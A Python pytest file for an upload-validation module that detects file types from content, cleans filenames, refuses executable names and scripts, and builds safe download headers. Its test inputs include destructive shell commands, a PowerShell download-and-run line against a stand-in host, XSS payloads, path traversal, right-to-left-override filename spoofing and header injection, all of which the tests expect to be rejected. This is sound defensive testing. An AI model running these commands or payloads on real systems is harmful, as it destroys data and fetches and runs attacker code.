"""Upload checks from bytes and names (cases.domain.filetypes): the type comes from the content,
a name that runs is refused, and the stored name agrees with the content."""

from __future__ import annotations

import io
import zipfile

import pytest

from cases.domain.filenames import clean_filename, content_disposition
from cases.domain.filetypes import UploadRejected, check_file, detect_kind, stored_filename

OLE = bytes.fromhex("D0CF11E0A1B11AE1")
MAX_FILE_BYTES = 10 * 1024 * 1024
PDF = b"%PDF-1.4\n1 0 obj\n<<>>\nendobj\n"


def _zip(names: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in names.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _ole(stream: str) -> bytes:
    return OLE + b"\x00" * 504 + stream.encode("utf-16-le") + b"\x00" * 64


@pytest.mark.parametrize(("data", "kind"), [
    (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj", "pdf"),
    (b"\xff\xd8\xff\xe0\x00\x10JFIF\x00", "jpeg"),
    (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "png"),
    (b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00", "heic"),
    (b"\x00\x00\x00\x18ftypheix\x00\x00\x00\x00", "heic"),
    (b"\x00\x00\x00\x18ftypmif1\x00\x00\x00\x00", "heic"),
    (_ole("WordDocument"), "doc"),
    (_ole("Workbook"), "xls"),
    (_ole("WpsContent"), "wps"),
    (_ole("SomethingElse"), "ole"),  # an OLE file of another kind (e.g. an old ET sheet)
    (_zip({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>"}), "docx"),
    (_zip({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<x/>"}), "xlsx"),
    (_zip({"OFD.xml": b"<ofd:OFD/>", "Doc_0/Document.xml": b"<d/>"}), "ofd"),
    (_zip({"photos/1.jpg": b"\xff\xd8\xff"}), "zip"),
    ("这是一份说明。\n第二行\r\n".encode(), "txt"),
    ("这是一份说明。\n".encode("gb18030"), "txt"),
    ("\ufeffBOM text".encode(), "txt"),
])
def test_accepted_kinds_are_detected_from_content(data: bytes, kind: str) -> None:
    assert detect_kind(data) == kind


@pytest.mark.parametrize("data", [
    b"MZ\x90\x00\x03\x00\x00\x00",  # a Windows executable
    b"\x7fELF\x02\x01\x01",  # a Linux executable
    b"GIF89a\x01\x00",  # not in the list
    b"text with a NUL\x00 inside",
    b"PK\x03\x04 not really a zip",
    b"\x00\x00\x00\x18ftypisom\x00\x00",  # an MP4 video, not HEIC
    b"\x01\x02\x03binary\x04",
])
def test_other_content_is_refused(data: bytes) -> None:
    assert detect_kind(data) is None
    with pytest.raises(UploadRejected) as caught:
        check_file("innocent.pdf", data, max_bytes=MAX_FILE_BYTES)
    assert caught.value.reason == "type"


def test_the_name_does_not_decide_the_type() -> None:
    checked = check_file("scan.txt", b"%PDF-1.4 ...", max_bytes=MAX_FILE_BYTES)
    assert checked.kind == "pdf" and checked.content_type == "application/pdf"
    # The person's name stays visible; the extension that opens it is the detected type's.
    assert checked.filename == "scan.txt.pdf"


def test_empty_and_too_large_files_are_refused_at_the_callers_limit() -> None:
    with pytest.raises(UploadRejected) as empty:
        check_file("a.txt", b"", max_bytes=MAX_FILE_BYTES)
    assert empty.value.reason == "empty"
    with pytest.raises(UploadRejected) as large:
        check_file("a.pdf", b"%PDF-" + b"0" * MAX_FILE_BYTES, max_bytes=MAX_FILE_BYTES)
    assert large.value.reason == "too_large"
    assert check_file("a.pdf", b"%PDF-" + b"0" * (MAX_FILE_BYTES - 5), max_bytes=MAX_FILE_BYTES).kind == "pdf"
    # Staff scans have their own, larger limit.
    assert check_file("a.pdf", b"%PDF-" + b"0" * MAX_FILE_BYTES, max_bytes=2 * MAX_FILE_BYTES).kind == "pdf"


@pytest.mark.parametrize(("name", "expected"), [
    ("C:\\Users\\张三\\Desktop\\意见.docx", "意见.docx"),
    ("../../etc/passwd", "passwd"),
    ("a\x00b<script>.pdf", "ab_script_.pdf"),
    ("   ", ""),
    ("长" * 200 + ".pdf", "长" * 110 + ".pdf"),
    # Bidirectional controls, zero-width and other format characters are removed ...
    ("report\u202efdp.hta", "reportfdp.hta"),
    ("\u2067合同\u2069\u200e\u200f\u202a\u202b\u202c\u202d\u2066\u2068\u061c.pdf", "合同.pdf"),
    ("\ufeff照\u200b片\u200c\u200d\u2060\u00ad.jpg", "照片.jpg"),
    ("line\u2028break\u2029\r\n\t.txt", "linebreak.txt"),
    # ... ordinary CJK text and punctuation stay.
    *((name, name) for name in ["关于《停车》的建议（第2稿）——附件、说明；“终稿”.docx"]),
    ("run.bat. . ", "run.bat"),  # Windows drops trailing dots and spaces
])
def test_file_names_are_cleaned(name: str, expected: str) -> None:
    assert clean_filename(name) == expected


@pytest.mark.parametrize(("name", "data", "stored"), [
    ("scan.PDF", PDF, "scan.PDF"),
    ("scan", PDF, "scan.pdf"),
    ("", PDF, "attachment.pdf"),
    ("photo.JPG", b"\xff\xd8\xff\xe0", "photo.JPG"),
    ("photo.png", b"\xff\xd8\xff\xe0", "photo.png.jpg"),
    ("意见.doc", _zip({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>"}), "意见.doc.docx"),
    ("表.et", _ole("Workbook"), "表.et"),
    ("notes.md", "说明".encode(), "notes.md.txt"),
    ("档案.rar", _zip({"a.jpg": b"\xff\xd8\xff"}), "档案.rar.zip"),
    ("长" * 200 + ".txt", PDF, "长" * 110 + ".txt.pdf"),  # cut, the real extension last
])
def test_the_stored_name_ends_in_an_extension_of_the_detected_type(name: str, data: bytes,
                                                                    stored: str) -> None:
    checked = check_file(name, data, max_bytes=MAX_FILE_BYTES)
    assert checked.filename == stored == stored_filename(name, checked.kind)


@pytest.mark.parametrize(("name", "data"), [
    ("report\u202efdp.hta", "看起来是 PDF".encode()),  # shown to staff as "reportath.pdf"
    ("run.bat", "这只是一段文字".encode()),
    ("RUN.BAT. ", b"plain text"),
    ("x.exe", PDF),  # a real PDF under a running name is refused, not renamed
    ("page.html", "纯文本".encode()),
    ("pic.svg", b"just text"),
    *((f"x.{ext}", b"text") for ext in ("cmd", "com", "scr", "js", "vbs", "ps1", "htm", "msi", "lnk",
                                         "jar", "sh", "wsf", "docm", "xlsm", "reg", "chm", "pif")),
    ("说明.txt:stream.exe", b"text"),  # an alternate data stream on Windows
])
def test_names_that_run_are_refused_whatever_the_content(name: str, data: bytes) -> None:
    with pytest.raises(UploadRejected) as caught:
        check_file(name, data, max_bytes=MAX_FILE_BYTES)
    assert caught.value.reason == "executable_name"
    assert "\u202e" not in caught.value.filename  # the message shows the clean name


@pytest.mark.parametrize("text", [
    "<!DOCTYPE html><html><body><p>整改报告</p></body></html>",
    "  \n<HTML>\n<script>location='http://evil.example'</script>",
    "<p>看起来像一份报告</p>",
    "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "<?xml version='1.0'?><root><script>alert(1)</script></root>",
    "<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='x.xsl'?><r/>",
    "<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'/>",
    "意见如下：<img src=x onerror=alert(1)> 请查收",
    "点击 javascript:alert(1)",
    '<HTA:APPLICATION ID="x" />',
    "#!/bin/sh\nrm -rf ~\n",
    "@echo off\r\ndel /q C:\\*\r\n",
    "REM 整改\r\n@set X=1\r\n",
    "powershell -nop -w hidden -enc SQBFAFgA",
    "IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')",
    'Set sh = CreateObject("WScript.Shell")\r\nsh.Run "calc"',
    "On Error Resume Next\r\nDim a",
    "var s = new ActiveXObject('WScript.Shell'); s.Run('calc');",
    "eval(String.fromCharCode(97,108))",
])
@pytest.mark.parametrize("name", ["doc.pdf", "说明.txt", "scan"])
def test_web_pages_and_scripts_are_refused_whatever_the_name(text: str, name: str) -> None:
    for data in (text.encode(), text.encode("gb18030"), b"\xef\xbb\xbf" + text.encode()):
        with pytest.raises(UploadRejected) as caught:
            check_file(name, data, max_bytes=MAX_FILE_BYTES)
        assert caught.value.reason == "active_content"


@pytest.mark.parametrize("text", [
    "建议在官网（http://www.example.gov.cn）公布空置率数据。\n联系人：张三 <zhang@example.cn>",
    "停车费 <10元/小时> 太贵；价格>20 元时应公示。",
    "@张三 您好：\r\n关于 echo 广场的照明，请 set 一个时间表。",
    "第一条：……\n第二条：“一是”、“二是”。\t完。\f",
])
def test_plain_text_stays_accepted(text: str) -> None:
    checked = check_file("意见.txt", text.encode(), max_bytes=MAX_FILE_BYTES)
    assert (checked.kind, checked.filename) == ("txt", "意见.txt")
    assert checked.content_type == "text/plain; charset=utf-8"


def test_the_download_header_carries_a_clean_name_only() -> None:
    # A name stored before names were cleaned: the header neither splits nor disguises it.
    header = content_disposition("report\u202efdp.hta\r\nX-Injected: 1")
    assert "\r" not in header and "\n" not in header and "\u202e" not in header
    assert header == ("attachment; filename=\"reportfdp.htaX-Injected_ 1\"; "
                      "filename*=UTF-8''reportfdp.htaX-Injected_%201")
    assert content_disposition('意见"书"?.pdf') == (
        "attachment; filename=\"_____.pdf\"; filename*=UTF-8''%E6%84%8F%E8%A7%81_%E4%B9%A6_.pdf")
    assert content_disposition("\u202e") == 'attachment; filename="attachment"; filename*=UTF-8\'\'attachment'
